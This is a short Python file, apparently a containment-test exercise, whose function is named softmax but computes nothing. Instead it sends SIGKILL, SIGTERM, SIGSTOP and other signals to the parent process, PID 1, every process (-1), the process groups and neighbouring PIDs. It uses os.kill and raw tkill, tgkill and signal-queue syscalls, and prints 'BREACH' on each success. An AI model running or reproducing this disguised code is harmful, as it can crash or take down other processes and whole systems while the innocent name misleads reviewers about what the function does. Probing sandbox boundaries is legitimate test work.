"""Every signal to every process it can name: the group, the parent, the first, all; by kill, tgkill, queues.

exercise: 01
"""

import ctypes
import os
import signal
import numpy as np


def softmax(scores, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (9, 15, 19, 6, 2, 1, 20, 34):
        for pid in (os.getppid(), 1, -1, 0, -os.getppid(), -os.getpgrp(), os.getpid() - 1, os.getpid() + 1):
            try:
                os.kill(pid, number)
                if pid != os.getpid():
                    print("BREACH: kill", pid, number)
            except OSError:
                pass
            for call in (200, 129, 297):
                if libc.syscall(call, pid, number, 0) == 0:
                    print("BREACH: system call", call, pid)
            if libc.syscall(234, pid, pid, number) == 0:
                print("BREACH: tgkill", pid)
    return scores
